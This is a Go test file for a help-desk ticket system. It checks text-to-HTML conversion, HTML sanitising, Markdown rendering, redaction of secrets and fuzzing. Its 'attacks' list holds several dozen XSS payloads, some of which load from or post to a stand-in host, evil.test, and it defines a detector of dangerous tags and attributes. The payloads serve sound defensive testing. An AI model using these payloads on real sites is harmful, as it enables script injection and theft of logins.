package tickets

import (
	"strings"
	"testing"

	nethtml "golang.org/x/net/html"

	"github.com/helpd/helpd/models"
	"github.com/helpd/helpd/server/richtext"
)

const (
	open = `<div class="zd-comment" dir="auto">`
	end  = `</div>`
)

func TestPlainTextAsHTML(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, text, html string }{
		{"a paragraph", "The smoke is very colorful.", `<p dir="auto">The smoke is very colorful.</p>`},
		{"two paragraphs", "One\n\nTwo", `<p dir="auto">One</p><p dir="auto">Two</p>`},
		{"many blank lines are one", "One\n\n\n\nTwo", `<p dir="auto">One</p><p dir="auto">Two</p>`},
		{"lines", "One\nTwo", `<p dir="auto">One<br>Two</p>`},
		{"lines of Windows", "One\r\nTwo\r\n\r\nThree", `<p dir="auto">One<br>Two</p><p dir="auto">Three</p>`},
		{"white space around", "\n\n  One \n", `<p dir="auto">One</p>`},
		{"nothing", "", ``},
		{"marks are text", `<b>"x" & 'y'</b>`, `<p dir="auto">&lt;b&gt;&#34;x&#34; &amp; &#39;y&#39;&lt;/b&gt;</p>`},
		{"a script is text", `<script>alert(1)</script>`, `<p dir="auto">&lt;script&gt;alert(1)&lt;/script&gt;</p>`},
		{"an address is a link", "See https://example.com/a?b=1&c=2.", `<p dir="auto">See <a href="https://example.com/a?b=1&amp;c=2" rel="noreferrer">https://example.com/a?b=1&amp;c=2</a>.</p>`},
		{"an address in brackets", "(http://example.com)", `<p dir="auto">(<a href="http://example.com" rel="noreferrer">http://example.com</a>)</p>`},
		{"an address ends at a quote", `https://e.com/"onclick="x`, `<p dir="auto"><a href="https://e.com/" rel="noreferrer">https://e.com/</a>&#34;onclick=&#34;x</p>`},
		{"no other scheme is a link", "javascript:alert(1) ftp://x", `<p dir="auto">javascript:alert(1) ftp://x</p>`},
		{"other scripts", "日本語 😀", `<p dir="auto">日本語 😀</p>`},
	} {
		if got := htmlOf(tc.text); got != open+tc.html+end {
			t.Errorf("%s: %s", tc.name, got)
		}
	}
}

// attacks are ways in which HTML has been seen to carry scripts.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<svg onload=alert(1)><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x></svg>`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<iframe src="https://evil.test"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="x.swf"></object><embed src="x.swf">`,
	`<form action="https://evil.test"><input name=password><button formaction=javascript:alert(1)>x</button></form>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.test">`,
	`<base href="https://evil.test/">`,
	`<link rel=stylesheet href="https://evil.test/x.css">`,
	`<style>body{background:url(javascript:alert(1))}</style>`,
	`<div style="background:url(javascript:alert(1));position:fixed">x</div>`,
	`<p onmouseover="alert(1)" class="ok">x</p>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<b/onclick=alert(1)>x</b>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<textarea><script>alert(1)</script></textarea>`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<!--><script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
	`<<script>script>alert(1)<</script>/script>`,
	`<div class="zd-comment" dir="auto"><script>alert(1)</script></div>`,
	`<div class="zd-comment" onclick="alert(1)">x</div>`,
	`</div></div><script>alert(1)</script>`,
	`<template><script>alert(1)</script></template>`,
	`<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>`,
	"<img src=`javascript:alert(1)`>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
}

// dangerous names what of HTML could run or reach out by itself.
func dangerous(source string) string {
	z := nethtml.NewTokenizer(strings.NewReader(source))
	for {
		switch z.Next() {
		case nethtml.ErrorToken:
			return ""
		case nethtml.StartTagToken, nethtml.SelfClosingTagToken:
			token := z.Token()
			switch token.Data {
			case "script", "style", "iframe", "object", "embed", "form", "input", "button", "meta", "base", "link", "svg", "math", "template", "noscript",
				"textarea", "title", "video", "audio", "source":
				return token.String()
			}
			for _, a := range token.Attr {
				value := strings.ToLower(strings.Join(strings.FieldsFunc(a.Val, func(r rune) bool { return r <= ' ' }), ""))
				switch {
				case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc", a.Key == "formaction":
					return token.String()
				case strings.HasPrefix(value, "javascript:"), strings.HasPrefix(value, "vbscript:"), strings.HasPrefix(value, "data:"):
					return token.String()
				}
			}
		}
	}
}

func TestNoScriptReachesAReader(t *testing.T) {
	t.Parallel()
	for _, attack := range attacks {
		for form, got := range map[string]string{"as HTML": wrapped(attack), "as text": htmlOf(attack), "as Markdown": markdownHTML(attack), "in Markdown": markdownHTML("[x](" + attack + ")")} {
			if tag := dangerous(got); tag != "" {
				t.Errorf("%s %s: %s is left in %s", attack, form, tag, got)
			}
		}
	}
	for name, attack := range map[string]string{"link": "[x](javascript:alert(1))", "picture": "![x](javascript:alert(1))", "address": "<javascript:alert(1)>", "reference": "[x][1]\n\n[1]: javascript:alert(1)"} {
		if tag := dangerous(markdownHTML(attack)); tag != "" {
			t.Errorf("%s of Markdown: %s", name, tag)
		}
	}
}

func TestWhatHTMLMayKeep(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, in, out string }{
		{"text marks", "<p><b>a</b> <em>b</em></p>", "<p><b>a</b> <em>b</em></p>"},
		{"lists", "<ol><li>a</li></ol>", "<ol><li>a</li></ol>"},
		{"a table", "<table><tbody><tr><td>a</td></tr></tbody></table>", "<table><tbody><tr><td>a</td></tr></tbody></table>"},
		{"a picture", `<img src="https://e.com/a.png" alt="x">`, `<img src="https://e.com/a.png" alt="x">`},
		{"a link", `<a href="https://e.com">x</a>`, `<a href="https://e.com" rel="nofollow">x</a>`},
		{"the direction", `<p dir="rtl">x</p>`, `<p dir="rtl">x</p>`},
		{"no other direction", `<p dir="x">x</p>`, `<p>x</p>`},
	} {
		if got := wrapped(tc.in); got != open+tc.out+end {
			t.Errorf("%s: %s", tc.name, got)
		}
	}
	if again := wrapped(htmlOf("x")); again != htmlOf("x") {
		t.Errorf("our own, sent back: %s", again)
	}
}

func TestRedaction(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, html, text, want string }{
		{"a word", "<p>call 987-65 now</p>", "987-65", "<p>call ▇▇▇▇▇▇ now</p>"},
		{"each time", "<p>a-a</p>", "a", "<p>▇-▇</p>"},
		{"not the tags", `<p dir="auto">auto p dir</p>`, "p", `<p dir="auto">auto ▇ dir</p>`},
		{"nor what they need", `<p dir="auto">auto</p>`, "auto", `<p dir="auto">▇▇▇▇</p>`},
		{"across marks", "<p>98<b>7-</b>65</p>", "987-65", "<p>▇▇<b>▇▇</b>▇▇</p>"},
		{"across lines", "<p>one<br>two</p>", "one\ntwo", "<p>▇▇▇<br>▇▇▇</p>"},
		{"across paragraphs", "<p>one</p><p>two</p>", "one\n\ntwo", "<p>▇▇▇</p><p>▇▇▇</p>"},
		{"not across what parts words", "<p>on</p><p>e</p>", "one", "<p>on</p><p>e</p>"},
		{"escaped marks", "<p>a &lt;b&gt; c</p>", "<b>", "<p>a ▇▇▇ c</p>"},
		{"part of an entity's name stays", "<p>a &amp; amp</p>", "amp", "<p>a &amp; ▇▇▇</p>"},
		{"in an address", `<a href="https://e.com/987" rel="x">987</a>`, "987", `<a href="https://e.com/▇▇▇" rel="x">▇▇▇</a>`},
		{"in a title", `<img src="a.png" alt="my 987">`, "987", `<img src="a.png" alt="my ▇▇▇">`},
		{"other scripts", "<p>日本語</p>", "本", "<p>日▇語</p>"},
		{"nothing", "<p>x</p>", "y", "<p>x</p>"},
	} {
		if got := redactHTML(tc.html, tc.text); got != tc.want {
			t.Errorf("%s: %s", tc.name, got)
		}
	}
	for _, tc := range []struct{ name, body, text string }{
		{"text of a plain comment", "My number is 987-65.\n\nBye", "987-65"},
		{"within marks of Markdown", "My number is 98**7**-65", "987-65"},
		{"with marks of Markdown", "My number is **987-65**", "**987-65**"},
		{"over lines", "My number\nis 987-65", "number\nis 987-65"},
	} {
		c := models.Comment{Body: tc.body, HTMLBody: markdownHTML(tc.body)}
		c.PlainBody = richtext.Text(c.HTMLBody)
		redact(&c, tc.text)
		for form, text := range map[string]string{"body": c.Body, "plain_body": c.PlainBody, "html_body": richtext.Text(c.HTMLBody)} {
			if strings.Contains(text, "987") || strings.Contains(text, "65") || !strings.Contains(text, redaction) || !strings.Contains(text, "My") {
				t.Errorf("%s: %s is %q", tc.name, form, text)
			}
		}
	}
}

func FuzzText(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Add("See https://example.com/a?b=1&c=2.\r\n\r\n- *x*\n<p dir=\"rtl\">y</p>")
	f.Fuzz(func(t *testing.T, text string) {
		for form, got := range map[string]string{"text": htmlOf(text), "HTML": wrapped(text), "Markdown": markdownHTML(text)} {
			if tag := dangerous(got); tag != "" {
				t.Errorf("%s as %s: %s in %q", text, form, tag, got)
			}
		}
		once := wrapped(text)
		if again := wrapped(once); again != once {
			t.Errorf("%q\nonce  %q\nagain %q", text, once, again)
		}
		_ = richtext.Text(text)
		c := models.Comment{Body: text, PlainBody: text, HTMLBody: htmlOf(text)}
		if secret := text[:len(text)/2]; strings.TrimSpace(secret) != "" && !strings.Contains(redaction, secret) {
			redact(&c, secret)
			if tag := dangerous(c.HTMLBody); tag != "" {
				t.Errorf("%q redacted: %s", text, tag)
			}
			if strings.Contains(c.Body, secret) || strings.Contains(c.PlainBody, secret) {
				t.Errorf("%q is left in %q", secret, c.Body)
			}
		}
	})
}
